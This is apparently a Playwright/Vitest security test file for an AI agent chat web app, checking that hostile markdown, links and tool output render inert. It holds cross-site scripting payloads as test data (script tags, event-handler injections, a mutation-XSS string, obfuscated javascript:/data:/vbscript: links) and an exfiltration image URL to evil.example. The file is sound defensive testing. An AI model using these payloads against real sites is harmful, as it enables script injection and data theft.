import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { Browser, Page } from 'playwright-core'
import type { TestServer } from '../support/gateway'
import { injectedMarkup, launchBrowser, openPage, type PageWatch, type ScriptedAgent, signIn, startAppServer } from './support'

/**
 * Security bar cases 33-35: whatever the agent, a tool or a user sends is shown as text or as
 * sanitised markdown. Nothing runs (no dialog, no sentinel), no `on*` attribute, no
 * `javascript:`/`data:` link, no request leaves the origin. Run twice: under the CSP, and with the
 * CSP bypassed so the sanitiser alone is tested.
 */
const SENTINEL = 'window.__pwned=1'

const MARKDOWN_PAYLOADS = [
  `<script>${SENTINEL}</script>`,
  `<img src=x onerror="${SENTINEL}">`,
  `<svg><animate onbegin="${SENTINEL}" attributeName=x dur=1s>`,
  `<iframe src="javascript:${SENTINEL}"></iframe>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${SENTINEL}">`,
  `<a href="javascript:${SENTINEL}">raw link</a>`,
  `<details open ontoggle="${SENTINEL}">x</details>`,
].join('\n\n')

const LINK_PAYLOADS = [
  '[one](javascript:alert(1))',
  '[two](JaVaScRiPt:alert(1))',
  '[three](java\tscript:alert(1))',
  '[four](&#106;avascript:alert(1))',
  '[five](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '[six](vbscript:msgbox(1))',
  '![seven](https://evil.example/pixel.png?q=SECRET)',
  '<https://example.org/auto>',
  '[safe](https://example.com/page)',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
].join('\n\n')

const TEXT_PAYLOAD = `<img src=x onerror="${SENTINEL}">`

for (const bypassCSP of [false, true]) {
  describe(`web app: hostile content is inert (${bypassCSP ? 'sanitiser alone, CSP bypassed' : 'under the CSP'})`, () => {
    let browser: Browser
    let server: TestServer
    let agent: ScriptedAgent
    let page: Page
    let watch: PageWatch

    beforeAll(async () => {
      ;[browser, { server, agent }] = await Promise.all([launchBrowser(), startAppServer()])
      const context = await browser.newContext({ bypassCSP })
      ;({ page, watch } = await openPage(context, server.url))
      // Any request to a foreign host is a leak; answer it so nothing hangs.
      await context.route((url) => !url.href.startsWith(server.url), (route) => route.fulfill({ status: 204 }))
      await signIn(page, server.url)
    })
    afterAll(async () => {
      await browser?.close()
      await server?.close()
    })

    const sendMessage = async (text: string) => {
      const box = page.getByRole('textbox', { name: 'Message' })
      await box.fill(text)
      await box.press('Enter')
    }
    const assertInert = async () => {
      await page.waitForTimeout(100)
      expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined()
      expect(watch.dialogs).toEqual([])
      expect(await injectedMarkup(page)).toEqual([])
      expect(watch.errors).toEqual([])
      expect(watch.offOrigin).toEqual([])
    }

    it('renders hostile assistant markdown without running any of it', async () => {
      agent.then(async (say, m) => {
        await say(m, { type: 'stream_chunk', content: MARKDOWN_PAYLOADS.slice(0, 40) })
        await say(m, { type: 'response', content: `Done.\n\n${MARKDOWN_PAYLOADS}`, thread_id: m.threadId })
      })
      await sendMessage('show me html')
      await page.locator('.markdown p', { hasText: 'Done.' }).waitFor()
      await assertInert()
      // Raw HTML is shown as text, not parsed.
      expect(await page.locator('.msg-agent .markdown').textContent()).toContain('<script>')
    })

    it('drops javascript:, data: and vbscript: links, never loads remote images, and opens external links safely', async () => {
      agent.then(async (say, m) => {
        await say(m, { type: 'response', content: LINK_PAYLOADS, thread_id: m.threadId })
      })
      await sendMessage('links please')
      const answer = page.locator('.turn').last().locator('.markdown')
      await answer.getByText('safe').waitFor()
      const links = await answer.locator('a').evaluateAll((as) => as.map((a) => ({ text: a.textContent, href: a.getAttribute('href'), rel: a.getAttribute('rel'), target: a.getAttribute('target') })))
      for (const link of links) {
        if (link.href === null) continue
        expect(link.href, String(link.text)).toMatch(/^https:\/\//)
        expect(link.rel).toContain('noopener')
        expect(link.target).toBe('_blank')
      }
      expect(links.find((l) => l.text === 'safe')?.href).toBe('https://example.com/page')
      expect(links.find((l) => l.text === 'one')?.href).toBeNull()
      expect(links.find((l) => l.text === 'five')?.href).toBeNull()
      // The remote image became a link to it; nothing was fetched.
      expect(await answer.locator('img').count()).toBe(0)
      expect(links.find((l) => l.text?.includes('seven'))?.href).toBe('https://evil.example/pixel.png?q=SECRET')
      // The code fence's hostile language name is neither an attribute nor markup.
      expect(await answer.locator('pre.code code').getAttribute('class')).toBe('hljs')
      await assertInert()
    })

    it('shows hostile user messages, tool names, tool output, approvals and errors as text', async () => {
      agent.then(async (say, m) => {
        await say(m, { type: 'tool_started', name: TEXT_PAYLOAD, call_id: 'x1' })
        await say(m, { type: 'tool_completed', name: TEXT_PAYLOAD, success: false, error: TEXT_PAYLOAD, parameters: TEXT_PAYLOAD, call_id: 'x1' })
        await say(m, { type: 'tool_result', name: TEXT_PAYLOAD, preview: TEXT_PAYLOAD, call_id: 'x1' })
        await say(m, { type: 'job_started', job_id: 'j1', title: TEXT_PAYLOAD, browse_url: 'javascript:alert(1)' })
        await say(m, { type: 'suggestions', suggestions: [TEXT_PAYLOAD] })
        await say(m, { type: 'approval_needed', request_id: crypto.randomUUID(), tool_name: TEXT_PAYLOAD, description: TEXT_PAYLOAD, parameters: TEXT_PAYLOAD, allow_always: false })
        await say(m, { type: 'error', message: TEXT_PAYLOAD })
      })
      await sendMessage(TEXT_PAYLOAD)
      const turn = page.locator('.turn').last()
      await turn.locator('.turn-error').waitFor()
      await turn.locator('.tool-card summary').click()
      expect(await turn.locator('.msg-user').textContent()).toContain(TEXT_PAYLOAD)
      expect(await turn.locator('.tool-name').first().textContent()).toBe(TEXT_PAYLOAD)
      expect(await turn.locator('.tool-card .tool-pre').allTextContents()).toEqual([TEXT_PAYLOAD, TEXT_PAYLOAD, TEXT_PAYLOAD])
      expect(await turn.locator('.approval-card').textContent()).toContain(TEXT_PAYLOAD)
      expect(await turn.locator('.turn-error').textContent()).toContain(TEXT_PAYLOAD)
      expect(await turn.locator('.job-link').textContent()).toContain(TEXT_PAYLOAD)
      await assertInert()
    })

    it('shows a hostile error without a thread as a text toast', async () => {
      await server.gateway.channel.sendStatus({ userId: 'owner' }, { type: 'error', message: TEXT_PAYLOAD })
      await page.locator('.toast-message', { hasText: TEXT_PAYLOAD }).waitFor()
      await assertInert()
    })
  })
}
